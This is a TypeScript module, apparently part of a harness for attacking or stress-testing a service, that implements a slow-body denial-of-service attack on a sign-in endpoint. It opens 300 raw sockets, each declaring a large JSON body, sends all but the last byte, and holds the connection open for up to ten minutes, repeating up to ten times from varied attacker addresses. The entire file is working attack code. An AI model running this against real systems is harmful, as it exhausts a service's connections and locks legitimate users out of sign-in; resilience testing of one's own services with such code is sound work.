import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, attackerAddress, countAnswer } from './attack.ts';
import { openRaw } from './client.ts';

const SOCKETS = 300;
/** How often a socket is opened again after the service has closed it. */
const TIMES = 10;
/** The second is below the limit of a sign-in. */
const BODY_BYTES = [Math.floor(4.9 * 1024 * 1024), 15_000];

export const openBodies: Attack = {
  title: `${SOCKETS} sockets hold JSON bodies of 4.9 MB, then of 15 kB, for /api/auth/sign-in`,
  async run({ target, tally, signal }) {
    const hold = async (index: number) => {
      for (let count = 0; count < TIMES && !signal.aborted; count++) {
        const bytes = BODY_BYTES[Math.min(count, BODY_BYTES.length - 1)] ?? 0;
        countAnswer(tally, await holdBody(target.url, { bytes, from: attackerAddress(index), signal }));
      }
    };
    await Promise.all(Array.from({ length: SOCKETS }, (_, index) => hold(index)));
  },
};

/** Sends all of a body but one byte, for which the service waits, and keeps the connection while it is open. */
async function holdBody(
  url: string,
  { bytes, from, signal }: { bytes: number; from: string; signal: AbortSignal },
): Promise<number | string> {
  const head = [
    'POST /api/auth/sign-in HTTP/1.1',
    `Host: ${new URL(url).host}`,
    'Content-Type: application/json',
    `Content-Length: ${bytes}`,
    '',
    '',
  ].join('\r\n');
  const { socket, status } = await openRaw(url, { from, signal });
  const closed = new Promise((resolve) => socket.once('close', resolve));
  socket.write(head);
  socket.write(Buffer.alloc(bytes - 1, ' '));
  const answer = await Promise.race([status, untilAborted(signal, 'held to the end')]);
  await Promise.race([closed, untilAborted(signal, '')]);
  return answer;
}

async function untilAborted<Value>(signal: AbortSignal, value: Value): Promise<Value> {
  await sleep(600_000, undefined, { signal, ref: false }).catch(() => {});
  return value;
}
